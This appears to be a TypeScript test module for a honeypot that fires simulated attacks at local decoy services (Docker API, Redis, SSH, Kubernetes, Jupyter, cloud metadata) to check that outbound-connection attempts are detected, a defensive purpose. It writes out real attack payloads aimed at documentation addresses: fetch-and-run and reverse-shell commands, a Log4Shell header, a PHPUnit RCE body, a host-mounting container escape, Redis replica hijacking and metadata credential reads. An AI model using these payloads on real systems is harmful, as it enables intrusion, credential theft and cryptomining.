/**
 * What attackers ask of decoys that would make a real server connect somewhere: downloads, pulls, replicas, reverse
 * shells, forwards, look-ups. All addresses are of documentation (RFC 5737) or can be no name (RFC 2606).
 */
import { setTimeout as sleep } from 'node:timers/promises';
import { ask, command } from './clients.ts';
import { logIn } from './ssh-visitor.ts';

const host = '203.0.113.7';

/** Lines for a shell. */
const lines: readonly string[] = [
  `curl -fsSL http://${host}/init.sh | sh`,
  `wget -q -O- http://malware.example.invalid/x | bash`,
  `bash -c 'bash -i >& /dev/tcp/${host}/4444 0>&1'`,
  `nc ${host} 4444 -e /bin/sh`,
  `python3 -c "import urllib.request; urllib.request.urlopen('http://${host}/a')"`,
  `ping -c 1 ${host}`,
  `nslookup malware.example.invalid ${host}; host malware.example.invalid`,
  `ssh -o StrictHostKeyChecking=no root@${host} id`,
  `scp /etc/passwd root@${host}:/tmp/`,
  `git clone http://${host}/tool.git`,
  `apt-get update; apt-get install -y masscan`,
  `docker pull ${host}:5000/miner; docker run -d ${host}:5000/miner`,
  `telnet ${host} 23`,
  `ftpget -u anonymous ${host} bot bot; tftp -g -r bot ${host}`,
  `openssl s_client -connect ${host}:443 </dev/null`,
  `redis-cli -h ${host} SLAVEOF NO ONE`,
  `curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/`,
];

type Attack = (port: number) => Promise<unknown>;

/** By the port that the sensor knows them by. */
const attacks: Readonly<Record<string, readonly Attack[]>> = {
  docker: [
    ...lines.map(
      (line): Attack =>
        (port) =>
          runContainer(port, line),
    ),
    (port) => ask(port, 'POST', `/v1.41/images/create?fromImage=${host}:5000/miner&tag=latest`),
    (port) => ask(port, 'POST', `/v1.41/build?remote=http://${host}/context.tar`),
    (port) =>
      ask(port, 'POST', '/v1.41/auth', { body: { username: 'a', password: 'b', serveraddress: host } }),
    (port) =>
      ask(port, 'POST', '/v1.41/swarm/join', {
        body: { RemoteAddrs: [`${host}:2377`], JoinToken: 'SWMTKN-1-0-0', ListenAddr: '0.0.0.0:2377' },
      }),
  ],
  redis: [
    `SLAVEOF ${host} 6379`,
    `REPLICAOF malware.example.invalid 6379`,
    `MIGRATE ${host} 6379 key 0 1000`,
    'MODULE LOAD /tmp/exp.so',
    `EVAL "return io.popen('curl http://${host}/a'):read()" 0`,
  ].map(
    (line): Attack =>
      (port) =>
        command(port, line),
  ),
  ssh: [
    ...lines.map(
      (line): Attack =>
        async (port) => {
          const visitor = await logIn(port);
          await visitor.exec(line);
          visitor.leave();
        },
    ),
    async (port) => {
      const visitor = await logIn(port);
      await visitor.forward(host, 25);
      visitor.leave();
    },
  ],
  http: [
    (port) => ask(port, 'GET', '/', { headers: { 'user-agent': `\${jndi:ldap://${host}:1389/a}` } }),
    (port) =>
      ask(port, 'POST', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', {
        body: `<?php system('curl http://${host}/a | sh');`,
      }),
    (port) => ask(port, 'POST', '/ws/v1/cluster/apps', { body: yarn }),
    (port) =>
      ask(port, 'POST', '/api/jobs/', { body: { entrypoint: `wget http://${host}/a`, runtime_env: {} } }),
    (port) => ask(port, 'GET', `/?url=http://${host}/a&file=ftp://${host}/a`),
  ],
  kubelet: [
    async (port) => {
      const pods = JSON.parse(await ask(port, 'GET', '/runningpods/', { isSecure: true }));
      const { metadata, spec } = pods.items[0];
      const path = `/run/${metadata.namespace}/${metadata.name}/${spec.containers[0].name}`;
      await Promise.all(
        lines.map((line) =>
          ask(port, 'POST', path, { isSecure: true, body: `cmd=${encodeURIComponent(line)}`, headers: form }),
        ),
      );
    },
  ],
  kubernetes: [
    (port) => ask(port, 'POST', '/api/v1/namespaces/default/pods', { isSecure: true, body: pod('attack') }),
    (port) =>
      ask(port, 'GET', `/api/v1/namespaces/default/services/http:${host}:80/proxy/`, { isSecure: true }),
  ],
  etcd: [
    (port) => ask(port, 'POST', '/v2/members', { body: { peerURLs: [`http://${host}:2380`] } }),
    (port) => ask(port, 'POST', '/v3/cluster/member/add', { body: { peerURLs: [`http://${host}:2380`] } }),
  ],
  jupyter: [terminal, kernel],
  weave: [(port) => ask(port, 'GET', '/api/topology/hosts'), (port) => ask(port, 'GET', '/api/probes')],
  imds: [
    (port) => ask(port, 'GET', `/latest/meta-data/?redirect=http://${host}/`),
    (port) =>
      ask(port, 'PUT', '/latest/api/token', { headers: { 'x-aws-ec2-metadata-token-ttl-seconds': '60' } }),
  ],
};

const form = { 'content-type': 'application/x-www-form-urlencoded' };
const yarn = { 'application-id': 'a', 'am-container-spec': { commands: { command: `wget ${host}/a` } } };

function pod(name: string): object {
  const script = lines.slice(0, 6).join('; ');
  const container = { name: 'a', image: `${host}:5000/miner`, command: ['sh', '-c', script] };
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name },
    spec: { hostNetwork: true, containers: [container] },
  };
}

async function runContainer(port: number, line: string): Promise<void> {
  await ask(port, 'POST', '/v1.41/images/create?fromImage=alpine&tag=latest');
  const body = {
    Image: 'alpine',
    Cmd: ['chroot', '/mnt', 'sh', '-c', line],
    HostConfig: { Binds: ['/:/mnt'], NetworkMode: 'host' },
  };
  const { Id } = JSON.parse(await ask(port, 'POST', '/v1.41/containers/create', { body }));
  if (typeof Id !== 'string') throw new Error('no container was created');
  await ask(port, 'POST', `/v1.41/containers/${Id}/start`);
  await ask(port, 'POST', `/v1.41/containers/${Id}/wait`);
}

/** As a page of the notebook has it, for posts. */
const ofPage = { cookie: '_xsrf=abc', 'x-xsrftoken': 'abc' };

/** A terminal in the browser. */
async function terminal(port: number): Promise<void> {
  const { name } = JSON.parse(await ask(port, 'POST', '/api/terminals', { headers: ofPage }));
  const typed = lines.map((line) => JSON.stringify(['stdin', `${line}\r`]));
  await say(`ws://127.0.0.1:${port}/terminals/websocket/${name}`, typed);
}

async function kernel(port: number): Promise<void> {
  const { id } = JSON.parse(
    await ask(port, 'POST', '/api/kernels', { headers: ofPage, body: { name: 'python3' } }),
  );
  const code = `import socket, urllib.request\nsocket.create_connection(('${host}', 4444))\n`;
  const cells = [
    code,
    `urllib.request.urlopen('http://${host}/a').read()`,
    ...lines.map((line) => `!${line}`),
  ];
  const messages = cells.map((cell, at) =>
    JSON.stringify({
      channel: 'shell',
      header: { msg_id: `m${at}`, msg_type: 'execute_request', username: '', session: 's', version: '5.3' },
      parent_header: {},
      metadata: {},
      content: { code: cell, silent: false, store_history: true, user_expressions: {}, allow_stdin: false },
    }),
  );
  await say(`ws://127.0.0.1:${port}/api/kernels/${id}/channels`, messages);
}

/** Milliseconds without a word after which all is said. */
const quiet = 1500;

function say(url: string, messages: readonly string[]): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = new WebSocket(url);
    let timer: NodeJS.Timeout | undefined;
    const wait = (): void => {
      clearTimeout(timer);
      timer = setTimeout(() => socket.close(), quiet);
    };
    socket.onopen = () => {
      for (const one of messages) socket.send(one);
      wait();
    };
    socket.onmessage = wait;
    socket.onerror = () => reject(new Error(`no conversation at ${url}`));
    socket.onclose = () => resolve();
  });
}

const tries = 3;
/** Milliseconds for one: a shell waits for an address that does not answer as long as a real one does, which is minutes. */
const patience = 10_000;

/** Of a process that has to share its processor with many, the first may be lost. */
async function tryAgain(attack: Attack, port: number): Promise<unknown> {
  for (let tried = 1; tried < tries; tried += 1) {
    try {
      return await attack(port);
    } catch {
      await sleep(1000);
    }
  }
  return attack(port);
}

/** All decoys at once. @returns how many attacks there were. @throws where a decoy refuses to be attacked */
export async function attackAll(ports: ReadonlyMap<string, number>): Promise<number> {
  const made = Object.entries(attacks).map(async ([name, some]) => {
    const port = ports.get(name);
    if (port === undefined) return 0;
    const all = some.map((attack, at) =>
      Promise.race([tryAgain(attack, port), sleep(patience)]).catch((error: unknown) => {
        throw new Error(`attack ${at} on ${name}: ${String(error)}`, { cause: error });
      }),
    );
    return (await Promise.all(all)).length;
  });
  return (await Promise.all(made)).reduce((sum, one) => sum + one, 0);
}
